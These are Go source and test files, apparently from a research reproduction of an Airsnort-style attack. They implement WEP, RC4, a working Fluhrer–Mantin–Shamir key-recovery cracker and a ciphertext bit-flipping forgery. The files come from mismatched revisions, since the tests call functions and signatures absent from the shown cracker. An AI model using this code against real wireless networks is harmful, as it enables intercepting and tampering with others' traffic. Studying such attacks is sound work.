	IV IV
	K0 byte // first keystream byte
}

// SampleFromSealed extracts a Sample from an on-air WEP payload, assuming
// the first plaintext byte is firstPlain (use SNAPFirstByte for data frames).
func SampleFromSealed(sealed []byte, firstPlain byte) (Sample, error) {
	if len(sealed) < HeaderLen+1 {
		return Sample{}, ErrShort
	}
	var iv IV
	copy(iv[:], sealed[:IVLen])
	return Sample{IV: iv, K0: sealed[HeaderLen] ^ firstPlain}, nil
}

// Cracker accumulates weak-IV samples and recovers the WEP root key with the
// Fluhrer–Mantin–Shamir attack, the algorithm behind Airsnort. It recovers
// key bytes in order: byte B needs samples with IV = (B+3, 255, x), and each
// such "resolved" sample votes for a candidate value with ~5% advantage over
// noise.
type Cracker struct {
	keyLen int
	// samples[b] holds weak samples targeting key byte b.
	samples [][]Sample
	// Frames counts every frame offered, weak or not — the paper-relevant
	// cost metric (how much traffic Airsnort must observe).
	Frames uint64
	// WeakFrames counts frames with FMS-weak IVs.
	WeakFrames uint64
	// Verify, if non-nil, is consulted with a candidate key and should
	// report whether it decrypts real traffic (e.g. checks an ICV).
	// Without it, RecoverKey trusts the vote winner.
	Verify func(Key) bool
}

// NewCracker returns a cracker for keys of keyLen bytes (KeySize40 or
// KeySize104).
func NewCracker(keyLen int) *Cracker {
	if keyLen != KeySize40 && keyLen != KeySize104 {
		panic("wep: bad key length")
	}
	return &Cracker{keyLen: keyLen, samples: make([][]Sample, keyLen)}
}

// AddSample offers one captured sample to the cracker.
func (c *Cracker) AddSample(s Sample) {
	c.Frames++
	b := int(s.IV[0]) - 3
	if s.IV[1] != 0xff || b < 0 || b >= c.keyLen {
		return
	}
	c.WeakFrames++
	c.samples[b] = append(c.samples[b], s)
}

// AddSealed offers a full on-air WEP payload, assuming a SNAP first byte.
func (c *Cracker) AddSealed(sealed []byte) {
	s, err := SampleFromSealed(sealed, SNAPFirstByte)
	if err != nil {
		return
	}
	c.AddSample(s)
}

// ErrNotEnough is returned by RecoverKey when the vote is too thin to call.
var ErrNotEnough = errors.New("wep: not enough weak-IV samples to recover key")

// minVotes is the minimum number of resolved votes required before a key
// byte is considered decided (without a Verify callback).
const minVotes = 8

// RecoverKey attempts to recover the root key from the accumulated samples.
// With a Verify callback it searches the top vote candidates per byte;
// without one it takes each byte's plurality winner.
func (c *Cracker) RecoverKey() (Key, error) {
	key := make(Key, c.keyLen)
	cands := make([][]byte, c.keyLen)
	for b := 0; b < c.keyLen; b++ {
		ranked, total := c.voteByte(b, key[:b])
		if total < minVotes {
			return nil, ErrNotEnough
		}
		cands[b] = ranked
		key[b] = ranked[0]
	}
	if c.Verify == nil {
		return key, nil
	}
	if c.Verify(key) {
		return key, nil
	}
	// Plurality failed: limited backtracking over the top few candidates of
	// each byte. Votes must be recomputed when an earlier byte changes, so
	// the search re-ranks lazily. A budget bounds the whole search so a
	// thin, noisy sample set fails fast instead of exploring 3^keyLen
	// combinations.
	const width = 3
	budget := 256 * c.keyLen
	var search func(b int, prefix Key) (Key, bool)
	search = func(b int, prefix Key) (Key, bool) {
		if budget <= 0 {
			return nil, false
		}
		budget--
		if b == c.keyLen {
			k := append(Key(nil), prefix...)
			if c.Verify(k) {
				return k, true
			}
			return nil, false
		}
		ranked, total := c.voteByte(b, prefix)
		if total < minVotes {
			return nil, false
		}
		n := width
		if n > len(ranked) {
			n = len(ranked)
		}
		for _, cand := range ranked[:n] {
			if k, ok := search(b+1, append(prefix, cand)); ok {
				return k, true
			}
		}
		return nil, false
	}
	if k, ok := search(0, make(Key, 0, c.keyLen)); ok {
		return k, nil
	}
	return nil, ErrNotEnough
}

// voteByte runs the FMS vote for key byte b given the already-recovered
// prefix, returning candidate values ranked by vote count and the number of
// resolved samples that voted.
func (c *Cracker) voteByte(b int, prefix Key) ([]byte, int) {
	var votes [256]int
	total := 0
	for _, s := range c.samples[b] {
		if v, ok := fmsVote(s.IV, prefix, s.K0); ok {
			votes[v]++
			total++
		}
	}
	ranked := make([]byte, 256)
	for i := range ranked {
		ranked[i] = byte(i)
	}
	// Selection-style ordering by descending votes (stable by value).
	for i := 0; i < len(ranked); i++ {
		best := i
		for j := i + 1; j < len(ranked); j++ {
			if votes[ranked[j]] > votes[ranked[best]] {
				best = j
			}
		}
		ranked[i], ranked[best] = ranked[best], ranked[i]
	}
	return ranked, total
}

// fmsVote simulates the first b+3 steps of the RC4 KSA with the known IV and
// recovered key prefix, applies the FMS "resolved" condition, and if it
// holds, derives the candidate value for key byte b implied by the observed
// first keystream byte k0.
func fmsVote(iv IV, prefix Key, k0 byte) (byte, bool) {
	b := len(prefix)
	known := make([]byte, 0, IVLen+b)
	known = append(known, iv[:]...)
	known = append(known, prefix...)
	steps := b + 3

	var s [256]int
	for i := range s {
		s[i] = i
	}
	j := 0
	for i := 0; i < steps; i++ {
		j = (j + s[i] + int(known[i])) & 0xff
		s[i], s[j] = s[j], s[i]
	}
	// Resolved condition: the first output byte will, with ~e^-3
	// probability, be the value swapped into position steps at the next KSA
	// step, which exposes the key byte.
	if s[1] >= steps {
		return 0, false
	}
	if (s[1]+s[s[1]])&0xff != steps {
		return 0, false
	}
	var inv [256]int
	for i, v := range s {
		inv[v] = i
	}
	vote := (inv[int(k0)] - j - s[steps]) & 0xff
	return byte(vote), true
}

// FirstKeystreamByte computes only the first RC4 keystream byte for
// IV||key — a fast path for experiment harnesses that must generate very
// large captures without paying for full frame encryption.
func FirstKeystreamByte(key Key, iv IV) byte {
	perFrame := make([]byte, 0, IVLen+len(key))
	perFrame = append(perFrame, iv[:]...)
	perFrame = append(perFrame, key...)
	c := NewRC4(perFrame)
	var b [1]byte
	c.XORKeyStream(b[:], b[:])
	return b[0]
}
