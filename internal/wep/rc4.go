// Package wep implements Wired Equivalent Privacy as deployed on 802.11b:
// the RC4 stream cipher, the per-frame IV + CRC-32 ICV encapsulation, and the
// Fluhrer–Mantin–Shamir (FMS) related-key attack that tools like Airsnort
// used to recover WEP keys passively — the paper's Section 4 attacker
// "retrieved the WEP key via Airsnort".
//
// Everything here is implemented from scratch (including RC4, which left the
// Go standard library's supported surface) because the point of the package
// is to reproduce WEP's weaknesses faithfully, not to be secure.
package wep

import "encoding/binary"

// RC4 is the RC4 stream cipher state.
type RC4 struct {
	s    [256]byte
	i, j uint8
}

// NewRC4 initialises the cipher with key using the RC4 key-scheduling
// algorithm (KSA). Key length must be 1..256 bytes.
func NewRC4(key []byte) *RC4 {
	c := &RC4{}
	c.Reset(key)
	return c
}

// rc4Identity seeds the KSA's S-box with one copy instead of a 256-step
// loop. The KSA runs once per WEP frame (every Seal/Open/FirstKeystreamByte
// re-keys on the per-frame IV‖key), so it dominates any traffic-generation
// loop and is worth tuning.
var rc4Identity = func() (s [256]byte) {
	for i := range s {
		s[i] = byte(i)
	}
	return
}()

// Reset re-runs the KSA on an existing cipher state, so per-frame ciphers can
// live on the stack instead of allocating:
//
//	var c RC4
//	c.Reset(perFrameKey)
func (c *RC4) Reset(key []byte) {
	if len(key) == 0 || len(key) > 256 {
		panic("wep: bad RC4 key size")
	}
	c.s = rc4Identity
	// Cycle the key index by hand: key[i%len(key)] costs a hardware divide
	// per step, which profiled as the bulk of the whole FMS experiment.
	var j uint8
	ki := 0
	for i := 0; i < 256; i++ {
		j += c.s[i] + key[ki]
		c.s[i], c.s[j] = c.s[j], c.s[i]
		ki++
		if ki == len(key) {
			ki = 0
		}
	}
	c.i, c.j = 0, 0
}

// XORKeyStream XORs src with the cipher's keystream into dst. dst and src may
// overlap completely (in-place) but must not partially overlap.
//
// The PRGA state updates are inherently serial (each swap feeds the next
// index), but the XOR against src need not be byte-at-a-time: eight keystream
// bytes accumulate into a word, then one 8-byte load/XOR/store moves the data.
// E4's runtime is keystream-bound, and the wide store roughly halves it.
func (c *RC4) XORKeyStream(dst, src []byte) {
	if len(dst) < len(src) {
		panic("wep: dst shorter than src")
	}
	i, j := c.i, c.j
	s := &c.s
	n := len(src)
	k := 0
	for ; k+8 <= n; k += 8 {
		var ks uint64
		for b := 0; b < 64; b += 8 {
			i++
			j += s[i]
			s[i], s[j] = s[j], s[i]
			ks |= uint64(s[s[i]+s[j]]) << b
		}
		// Load before store: with dst == src (in-place) the word must be
		// read intact before the XORed word overwrites it.
		binary.LittleEndian.PutUint64(dst[k:], binary.LittleEndian.Uint64(src[k:])^ks)
	}
	for ; k < n; k++ {
		i++
		j += s[i]
		s[i], s[j] = s[j], s[i]
		dst[k] = src[k] ^ s[s[i]+s[j]]
	}
	c.i, c.j = i, j
}

// Keystream returns the next n keystream bytes. Used by the FMS attack
// verifier and keystream-reuse analysis.
func (c *RC4) Keystream(n int) []byte {
	out := make([]byte, n)
	c.XORKeyStream(out, out)
	return out
}
