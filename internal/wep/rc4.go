// Package wep implements Wired Equivalent Privacy as deployed on 802.11b:
// the RC4 stream cipher, the per-frame IV + CRC-32 ICV encapsulation, and the
// Fluhrer–Mantin–Shamir (FMS) related-key attack that tools like Airsnort
// used to recover WEP keys passively — the paper's Section 4 attacker
// "retrieved the WEP key via Airsnort".
//
// Everything here is implemented from scratch (including RC4, which left the
// Go standard library's supported surface) because the point of the package
// is to reproduce WEP's weaknesses faithfully, not to be secure.
package wep

// RC4 is the RC4 stream cipher state.
type RC4 struct {
	s    [256]byte
	i, j uint8
}

// NewRC4 initialises the cipher with key using the RC4 key-scheduling
// algorithm (KSA). Key length must be 1..256 bytes.
func NewRC4(key []byte) *RC4 {
	c := &RC4{}
	c.Reset(key)
	return c
}

// rc4Identity seeds the KSA's S-box with one copy instead of a 256-step
// loop. The KSA runs once per WEP frame (every Seal/Open/FirstKeystreamByte
// re-keys on the per-frame IV‖key), so it dominates any traffic-generation
// loop and is worth tuning.
var rc4Identity = func() (s [256]byte) {
	for i := range s {
		s[i] = byte(i)
	}
	return
}()

// Reset re-runs the KSA on an existing cipher state, so per-frame ciphers can
// live on the stack instead of allocating:
//
//	var c RC4
//	c.Reset(perFrameKey)
func (c *RC4) Reset(key []byte) {
	if len(key) == 0 || len(key) > 256 {
		panic("wep: bad RC4 key size")
	}
	c.s = rc4Identity
	// Cycle the key index by hand: key[i%len(key)] costs a hardware divide
	// per step, which profiled as the bulk of the whole FMS experiment.
	var j uint8
	ki := 0
	for i := 0; i < 256; i++ {
		j += c.s[i] + key[ki]
		c.s[i], c.s[j] = c.s[j], c.s[i]
		ki++
		if ki == len(key) {
			ki = 0
		}
	}
	c.i, c.j = 0, 0
}

// XORKeyStream XORs src with the cipher's keystream into dst. dst and src may
// overlap completely (in-place) but must not partially overlap.
func (c *RC4) XORKeyStream(dst, src []byte) {
	if len(dst) < len(src) {
		panic("wep: dst shorter than src")
	}
	i, j := c.i, c.j
	for k, b := range src {
		i++
		j += c.s[i]
		c.s[i], c.s[j] = c.s[j], c.s[i]
		dst[k] = b ^ c.s[c.s[i]+c.s[j]]
	}
	c.i, c.j = i, j
}

// Keystream returns the next n keystream bytes. Used by the FMS attack
// verifier and keystream-reuse analysis.
func (c *RC4) Keystream(n int) []byte {
	out := make([]byte, n)
	c.XORKeyStream(out, out)
	return out
}
