package wep

import (
	"bytes"
	"sort"
	"testing"

	"repro/internal/sim"
)

// --- Reference implementations ---
//
// The incremental vote engine (standing per-byte tables, sparse-overlay KSA,
// partial top-k ranking) must be observationally identical to the obvious
// from-scratch computation. These references ARE that obvious computation:
// fmsVoteRef materialises the full 256-entry S-box per sample, and
// voteByteRef recounts every sample and ranks all 256 candidates with a
// stable selection sort.

// fmsVoteRef is the straightforward full-array FMS vote.
func fmsVoteRef(iv IV, prefix Key, k0 byte) (byte, bool) {
	b := len(prefix)
	known := make([]byte, 0, IVLen+b)
	known = append(known, iv[:]...)
	known = append(known, prefix...)
	steps := b + 3

	var s [256]int
	for i := range s {
		s[i] = i
	}
	j := 0
	for i := 0; i < steps; i++ {
		j = (j + s[i] + int(known[i])) & 0xff
		s[i], s[j] = s[j], s[i]
	}
	if s[1] >= steps {
		return 0, false
	}
	if (s[1]+s[s[1]])&0xff != steps {
		return 0, false
	}
	var inv [256]int
	for i, v := range s {
		inv[v] = i
	}
	vote := (inv[int(k0)] - j - s[steps]) & 0xff
	return byte(vote), true
}

// voteByteRef recounts byte b's votes from scratch and returns all 256
// candidates ranked by descending votes, ties by ascending byte value, plus
// the resolved total.
func voteByteRef(samples []Sample, prefix Key) ([]byte, int) {
	var votes [256]int
	total := 0
	for _, s := range samples {
		if v, ok := fmsVoteRef(s.IV, prefix, s.K0); ok {
			votes[v]++
			total++
		}
	}
	ranked := make([]byte, 256)
	for i := range ranked {
		ranked[i] = byte(i)
	}
	for i := 0; i < len(ranked); i++ {
		best := i
		for j := i + 1; j < len(ranked); j++ {
			if votes[ranked[j]] > votes[ranked[best]] {
				best = j
			}
		}
		ranked[i], ranked[best] = ranked[best], ranked[i]
	}
	return ranked, total
}

// TestFMSVoteMatchesReference drives the sparse-overlay fmsVote against the
// full-array reference across every prefix length and a dense spread of IV
// third bytes, keystream bytes, and prefix contents.
func TestFMSVoteMatchesReference(t *testing.T) {
	rng := sim.NewRNG(99)
	for b := 0; b < KeySize104; b++ {
		prefix := make(Key, b)
		for trial := 0; trial < 200; trial++ {
			for i := range prefix {
				prefix[i] = byte(rng.Intn(256))
			}
			iv := IV{byte(b + 3), 255, byte(rng.Intn(256))}
			k0 := byte(rng.Intn(256))
			gotV, gotOK := fmsVote(iv, prefix, k0)
			wantV, wantOK := fmsVoteRef(iv, prefix, k0)
			if gotV != wantV || gotOK != wantOK {
				t.Fatalf("fmsVote(b=%d iv=%v prefix=%x k0=%#x) = (%#x,%v), reference (%#x,%v)",
					b, iv, prefix, k0, gotV, gotOK, wantV, wantOK)
			}
		}
	}
	// Non-weak IVs must agree too (AddSample filters them, but fmsVote's
	// contract is not limited to the weak form).
	for trial := 0; trial < 500; trial++ {
		iv := IV{byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256))}
		k0 := byte(rng.Intn(256))
		gotV, gotOK := fmsVote(iv, nil, k0)
		wantV, wantOK := fmsVoteRef(iv, nil, k0)
		if gotV != wantV || gotOK != wantOK {
			t.Fatalf("fmsVote(iv=%v k0=%#x) = (%#x,%v), reference (%#x,%v)",
				iv, k0, gotV, gotOK, wantV, wantOK)
		}
	}
}

// TestRankVotesTieBreak pins the ranking contract: descending votes, equal
// votes ordered by ascending byte value, and a top-k request returns exactly
// the first k entries of the full ranking.
func TestRankVotesTieBreak(t *testing.T) {
	// Hand-built case: 7 and 200 tie at the top; 3, 5 and 100 tie below.
	var votes [256]int32
	votes[200] = 9
	votes[7] = 9
	votes[100] = 4
	votes[5] = 4
	votes[3] = 4
	var top [6]byte
	rankVotes(&votes, top[:])
	want := []byte{7, 200, 3, 5, 100, 0}
	if !bytes.Equal(top[:], want) {
		t.Fatalf("rankVotes top-6 = %v, want %v", top[:], want)
	}

	// Property: for random vote tables (including heavy ties), every top-k
	// prefix matches the full stable ranking.
	rng := sim.NewRNG(7)
	for trial := 0; trial < 100; trial++ {
		var v [256]int32
		vi := make([]int, 256)
		for i := range v {
			n := int32(rng.Intn(4)) // few distinct counts → many ties
			v[i] = n
			vi[i] = int(n)
		}
		full := make([]byte, 256)
		for i := range full {
			full[i] = byte(i)
		}
		sort.SliceStable(full, func(a, b int) bool {
			return vi[full[a]] > vi[full[b]]
		})
		for _, k := range []int{1, 3, 16, 256} {
			out := make([]byte, k)
			rankVotes(&v, out)
			if !bytes.Equal(out, full[:k]) {
				t.Fatalf("trial %d: rankVotes top-%d = %v, full ranking prefix %v",
					trial, k, out, full[:k])
			}
		}
	}
}

// TestVoteByteMatchesReference checks the incremental tables against a full
// recount across a randomized capture stream with interleaved prefix changes
// — including prefix flips that force dirty-prefix invalidation, and
// backtracking-style returns to a previously used prefix.
func TestVoteByteMatchesReference(t *testing.T) {
	key := Key{0x5e, 0xc2, 0x17, 0x88, 0x3a}
	rng := sim.NewRNG(13)
	c := NewCracker(len(key))

	prefixes := []Key{
		{},
		{key[0]},
		{0x00}, // wrong byte 0: invalidates byte-1 table built under key[0]
		{key[0], key[1]},
		{key[0], 0xff},
		{key[0], key[1], key[2], key[3]},
	}
	for round := 0; round < 40; round++ {
		// A burst of captures: mostly weak IVs, some noise.
		for i := 0; i < 50; i++ {
			var iv IV
			if rng.Intn(10) == 0 {
				iv = IV{byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256))}
			} else {
				iv = IV{byte(rng.Intn(len(key)) + 3), 255, byte(rng.Intn(256))}
			}
			c.AddSample(Sample{IV: iv, K0: FirstKeystreamByte(key, iv)})
		}
		// Interrogate a random byte under a random prefix; the table must
		// match a from-scratch recount every time.
		p := prefixes[rng.Intn(len(prefixes))]
		b := len(p)
		var top [3]byte
		total := c.voteByte(b, p, top[:])
		wantRanked, wantTotal := voteByteRef(c.samples[b], p)
		if total != wantTotal {
			t.Fatalf("round %d byte %d prefix %x: total %d, reference %d",
				round, b, p, total, wantTotal)
		}
		if !bytes.Equal(top[:], wantRanked[:3]) {
			t.Fatalf("round %d byte %d prefix %x: top-3 %v, reference %v",
				round, b, p, top[:], wantRanked[:3])
		}
	}
}

// TestRecoverKeyMatchesFromScratch replays randomized sample streams into a
// long-lived cracker (incremental tables, early-out cache) and a fresh
// cracker per attempt (no standing state), asserting identical outcomes.
func TestRecoverKeyMatchesFromScratch(t *testing.T) {
	key := Key{0xde, 0xad, 0xbe, 0xef, 0x42}
	ref := Seal(key, IV{200, 1, 1}, 0, []byte("verification frame"))
	verify := func(k Key) bool {
		_, err := Open(k, ref)
		return err == nil
	}
	rng := sim.NewRNG(21)
	live := NewCracker(len(key))
	live.Verify = verify
	var stream []Sample
	for round := 0; round < 30; round++ {
		for i := 0; i < 64; i++ {
			iv := IV{byte(rng.Intn(len(key)) + 3), 255, byte(rng.Intn(256))}
			s := Sample{IV: iv, K0: FirstKeystreamByte(key, iv)}
			stream = append(stream, s)
			live.AddSample(s)
		}
		gotKey, gotErr := live.RecoverKey()

		fresh := NewCracker(len(key))
		fresh.Verify = verify
		for _, s := range stream {
			fresh.AddSample(s)
		}
		wantKey, wantErr := fresh.RecoverKey()
		if !bytes.Equal(gotKey, wantKey) || gotErr != wantErr {
			t.Fatalf("round %d: live (%x, %v) != fresh (%x, %v)",
				round, gotKey, gotErr, wantKey, wantErr)
		}
		if gotErr == nil && bytes.Equal(gotKey, key) {
			return // recovered; the interesting rounds are behind us
		}
	}
	t.Fatal("key never recovered within the stream budget")
}

// TestRecoverKeyEarlyOut verifies the no-new-samples no-op: the cached
// outcome is returned (as a fresh copy the caller may mutate), strong frames
// do not defeat the cache, and a new weak frame re-arms a real attempt.
func TestRecoverKeyEarlyOut(t *testing.T) {
	key := Key40FromString("SECRE")
	c := NewCracker(len(key))
	for b := 0; b < len(key); b++ {
		for x := 0; x < 256; x++ {
			iv := IV{byte(b + 3), 255, byte(x)}
			c.AddSample(Sample{IV: iv, K0: FirstKeystreamByte(key, iv)})
		}
	}
	got1, err := c.RecoverKey()
	if err != nil || !bytes.Equal(got1, key) {
		t.Fatalf("first attempt: %x, %v", got1, err)
	}
	// Strong frames only: the early-out must hold (WeakFrames unchanged).
	c.AddSample(Sample{IV: IV{1, 2, 3}, K0: 0})
	got2, err := c.RecoverKey()
	if err != nil || !bytes.Equal(got2, key) {
		t.Fatalf("cached attempt: %x, %v", got2, err)
	}
	// The cache must hand out copies: corrupting one result must not leak
	// into the next.
	got2[0] ^= 0xff
	got3, err := c.RecoverKey()
	if err != nil || !bytes.Equal(got3, key) {
		t.Fatalf("after caller mutation: %x, %v", got3, err)
	}
	// A new weak frame re-arms recovery (and it still succeeds).
	iv := IV{3, 255, 9}
	c.AddSample(Sample{IV: iv, K0: FirstKeystreamByte(key, iv)})
	got4, err := c.RecoverKey()
	if err != nil || !bytes.Equal(got4, key) {
		t.Fatalf("re-armed attempt: %x, %v", got4, err)
	}
}

// TestRecoverKeyEarlyOutCachesFailure pins the other half of the cache: a
// thin sample set fails once, and the repeat attempt is the same failure
// without recomputation.
func TestRecoverKeyEarlyOutCachesFailure(t *testing.T) {
	c := NewCracker(KeySize40)
	for x := 0; x < 4; x++ {
		c.AddSample(Sample{IV: IV{3, 255, byte(x)}, K0: 0})
	}
	if _, err := c.RecoverKey(); err != ErrNotEnough {
		t.Fatalf("err = %v, want ErrNotEnough", err)
	}
	if _, err := c.RecoverKey(); err != ErrNotEnough {
		t.Fatalf("cached err = %v, want ErrNotEnough", err)
	}
}

// TestVoteMachineryAllocFree asserts the steady-state contract: folding a
// weak sample into a standing table and re-ranking candidates allocates
// nothing.
func TestVoteMachineryAllocFree(t *testing.T) {
	key := Key40FromString("SECRE")
	c := NewCracker(len(key))
	// Pre-size the sample slices so append's amortized growth does not count
	// against the steady-state measurement.
	for b := range c.samples {
		c.samples[b] = make([]Sample, 0, 4096)
	}
	var top [3]byte
	iv := IV{3, 255, 0}
	s := Sample{IV: iv, K0: FirstKeystreamByte(key, iv)}
	allocs := testing.AllocsPerRun(1000, func() {
		c.AddSample(s)
		c.voteByte(0, nil, top[:])
	})
	if allocs != 0 {
		t.Fatalf("AddSample+voteByte allocated %.1f times per op, want 0", allocs)
	}
	if a := testing.AllocsPerRun(1000, func() { FirstKeystreamByte(key, iv) }); a != 0 {
		t.Fatalf("FirstKeystreamByte allocated %.1f times per op, want 0", a)
	}
}

// FuzzCrackerAddSealed feeds arbitrary byte strings through the sealed-frame
// path and cross-checks the incremental engine against a fresh cracker over
// the surviving samples. The engine must never panic, and statistics and
// outcomes must match a from-scratch replay.
func FuzzCrackerAddSealed(f *testing.F) {
	key := Key40FromString("SECRE")
	f.Add([]byte{}, uint8(0))
	f.Add([]byte{3, 255, 1, 0, 0xaa}, uint8(1))
	f.Add(Seal(key, IV{3, 255, 7}, 0, []byte{SNAPFirstByte, 0xaa, 0x03}), uint8(9))
	weak := Seal(key, IV{4, 255, 200}, 0, []byte{SNAPFirstByte})
	f.Add(append(weak, weak...), uint8(40))
	f.Fuzz(func(t *testing.T, data []byte, chunk uint8) {
		live := NewCracker(KeySize40)
		size := int(chunk)%64 + 1
		var frames [][]byte
		for off := 0; off < len(data); off += size {
			end := off + size
			if end > len(data) {
				end = len(data)
			}
			frames = append(frames, data[off:end])
		}
		for i, fr := range frames {
			live.AddSealed(fr)
			if i%3 == 0 {
				live.RecoverKey() // interleave attempts to churn the tables
			}
		}
		liveKey, liveErr := live.RecoverKey()

		fresh := NewCracker(KeySize40)
		for _, fr := range frames {
			fresh.AddSealed(fr)
		}
		freshKey, freshErr := fresh.RecoverKey()
		if live.Frames != fresh.Frames || live.WeakFrames != fresh.WeakFrames {
			t.Fatalf("frame accounting diverged: live %d/%d, fresh %d/%d",
				live.Frames, live.WeakFrames, fresh.Frames, fresh.WeakFrames)
		}
		if !bytes.Equal(liveKey, freshKey) || (liveErr == nil) != (freshErr == nil) {
			t.Fatalf("outcome diverged: live (%x, %v), fresh (%x, %v)",
				liveKey, liveErr, freshKey, freshErr)
		}
	})
}
