package wep

import (
	"errors"
	"fmt"
)

// Key is a WEP root key: 5 bytes ("40-bit"/WEP-64) or 13 bytes
// ("104-bit"/WEP-128). The paper's CORP network uses a shared WEP key named
// "SECRET"; Key40FromString builds the same kind of ASCII key.
type Key []byte

// Key sizes.
const (
	KeySize40  = 5
	KeySize104 = 13
)

// Validate reports whether the key has a legal WEP size.
func (k Key) Validate() error {
	if len(k) != KeySize40 && len(k) != KeySize104 {
		return fmt.Errorf("wep: key must be %d or %d bytes, got %d", KeySize40, KeySize104, len(k))
	}
	return nil
}

// Key40FromString derives a 5-byte key from an ASCII passphrase by
// truncation/padding — the naive scheme consumer gear used for "ASCII keys".
func Key40FromString(s string) Key {
	k := make(Key, KeySize40)
	copy(k, s)
	return k
}

// Encapsulation constants.
const (
	IVLen     = 3 // initialisation vector prepended in the clear
	KeyIDLen  = 1 // key index byte (2 bits used)
	ICVLen    = 4 // CRC-32 integrity check value
	HeaderLen = IVLen + KeyIDLen
	// Overhead is the total expansion Seal adds to a plaintext.
	Overhead = HeaderLen + ICVLen
)

// IV is the 24-bit per-frame initialisation vector.
type IV [IVLen]byte

// Uint32 returns the IV as an integer (iv[0] is the first byte on the wire).
func (iv IV) Uint32() uint32 {
	return uint32(iv[0])<<16 | uint32(iv[1])<<8 | uint32(iv[2])
}

// IVFromUint32 builds an IV from the low 24 bits of v.
func IVFromUint32(v uint32) IV {
	return IV{byte(v >> 16), byte(v >> 8), byte(v)}
}

// IsWeak reports whether the IV has the Fluhrer–Mantin–Shamir weak form
// (B+3, 255, x) for some attackable key-byte index B of a key of length
// keyLen. These are the IVs Airsnort harvests.
func (iv IV) IsWeak(keyLen int) bool {
	b := int(iv[0]) - 3
	return iv[1] == 0xff && b >= 0 && b < keyLen
}

// Seal encrypts plaintext under key with the given IV and key index,
// returning the on-air WEP payload: IV || keyID || RC4(plaintext || ICV).
func Seal(key Key, iv IV, keyID byte, plaintext []byte) []byte {
	if err := key.Validate(); err != nil {
		panic(err)
	}
	out := make([]byte, HeaderLen+len(plaintext)+ICVLen)
	copy(out[0:IVLen], iv[:])
	out[IVLen] = keyID & 0x03
	body := out[HeaderLen:]
	copy(body, plaintext)
	icv := crc32ieee(plaintext)
	putLE32(body[len(plaintext):], icv)
	perFrame := make([]byte, 0, IVLen+len(key))
	perFrame = append(perFrame, iv[:]...)
	perFrame = append(perFrame, key...)
	NewRC4(perFrame).XORKeyStream(body, body)
	return out
}

// ErrICV is returned by Open when the integrity check fails — either the key
// is wrong or the frame was corrupted in a way CRC detects.
var ErrICV = errors.New("wep: ICV mismatch")

// ErrShort is returned by Open for frames too small to be WEP payloads.
var ErrShort = errors.New("wep: frame too short")

// Open decrypts a WEP payload produced by Seal, verifying the ICV.
func Open(key Key, sealed []byte) ([]byte, error) {
	if err := key.Validate(); err != nil {
		return nil, err
	}
	if len(sealed) < Overhead {
		return nil, ErrShort
	}
	var iv IV
	copy(iv[:], sealed[0:IVLen])
	perFrame := make([]byte, 0, IVLen+len(key))
	perFrame = append(perFrame, iv[:]...)
	perFrame = append(perFrame, key...)
	body := make([]byte, len(sealed)-HeaderLen)
	NewRC4(perFrame).XORKeyStream(body, sealed[HeaderLen:])
	plaintext := body[:len(body)-ICVLen]
	if crc32ieee(plaintext) != le32(body[len(plaintext):]) {
		return nil, ErrICV
	}
	return plaintext, nil
}

// PeekIV extracts the cleartext IV from a sealed frame.
func PeekIV(sealed []byte) (IV, error) {
	var iv IV
	if len(sealed) < HeaderLen {
		return iv, ErrShort
	}
	copy(iv[:], sealed[:IVLen])
	return iv, nil
}

// FlipBits demonstrates WEP's integrity failure: given a sealed frame it
// XORs delta into the plaintext at offset and fixes up the encrypted ICV so
// the frame still verifies under Open — without knowing the key. This works
// because both RC4 and CRC-32 are linear over XOR.
func FlipBits(sealed []byte, offset int, delta []byte) ([]byte, error) {
	if len(sealed) < Overhead {
		return nil, ErrShort
	}
	plainLen := len(sealed) - Overhead
	if offset < 0 || offset+len(delta) > plainLen {
		return nil, fmt.Errorf("wep: delta out of range")
	}
	out := append([]byte(nil), sealed...)
	// XOR the delta into the ciphertext: RC4 linearity makes the same delta
	// appear in the plaintext.
	for i, d := range delta {
		out[HeaderLen+offset+i] ^= d
	}
	// Fix the ICV: crc(p^D) = crc(p) ^ crc0(D) for a full-length delta D with
	// zero initial state, where D is delta placed at offset in a zero buffer.
	full := make([]byte, plainLen)
	copy(full[offset:], delta)
	icvDelta := crc32zero(full)
	icvOff := HeaderLen + plainLen
	for i := 0; i < ICVLen; i++ {
		out[icvOff+i] ^= byte(icvDelta >> (8 * i))
	}
	return out, nil
}

// --- CRC-32 (IEEE 802.3, reflected) implemented locally so the bit-flip
// attack can use the raw linear update without init/final conditioning. ---

var crcTable [256]uint32

func init() {
	const poly = 0xedb88320
	for i := range crcTable {
		c := uint32(i)
		for k := 0; k < 8; k++ {
			if c&1 != 0 {
				c = c>>1 ^ poly
			} else {
				c >>= 1
			}
		}
		crcTable[i] = c
	}
}

func crcUpdate(crc uint32, p []byte) uint32 {
	for _, b := range p {
		crc = crcTable[byte(crc)^b] ^ crc>>8
	}
	return crc
}

// crc32ieee is the standard CRC-32: init all-ones, final complement.
func crc32ieee(p []byte) uint32 { return ^crcUpdate(^uint32(0), p) }

// crc32zero is the raw linear map (init 0, no final complement); it is the
// XOR-difference of two standard CRCs over equal-length inputs.
func crc32zero(p []byte) uint32 { return crcUpdate(0, p) }

func putLE32(b []byte, v uint32) {
	b[0] = byte(v)
	b[1] = byte(v >> 8)
	b[2] = byte(v >> 16)
	b[3] = byte(v >> 24)
}

func le32(b []byte) uint32 {
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
}

// --- IV allocation policies ---

// IVSource produces per-frame IVs. Implementations are not safe for
// concurrent use; each transmitter owns one.
type IVSource interface {
	NextIV() IV
}

// SequentialIV counts through the 24-bit IV space, as most early firmware
// did. It wraps after 2^24 frames — the keystream-reuse problem — and walks
// straight through every FMS-weak IV, which is what made Airsnort effective.
type SequentialIV struct{ counter uint32 }

// NextIV implements IVSource.
func (s *SequentialIV) NextIV() IV {
	iv := IVFromUint32(s.counter)
	s.counter = (s.counter + 1) & 0xffffff
	return iv
}

// RandomIV draws IVs uniformly from a caller-supplied 32-bit generator
// (typically the kernel RNG), colliding by birthday paradox after ~4096
// frames.
type RandomIV struct {
	// Rand returns random 32 bits; the low 24 are used.
	Rand func() uint32
}

// NextIV implements IVSource.
func (r *RandomIV) NextIV() IV { return IVFromUint32(r.Rand() & 0xffffff) }

// WeakAvoidingIV is the later-firmware mitigation: sequential allocation
// that skips FMS-weak IVs. The E4 ablation shows FMS starving under it.
type WeakAvoidingIV struct {
	KeyLen  int
	counter uint32
}

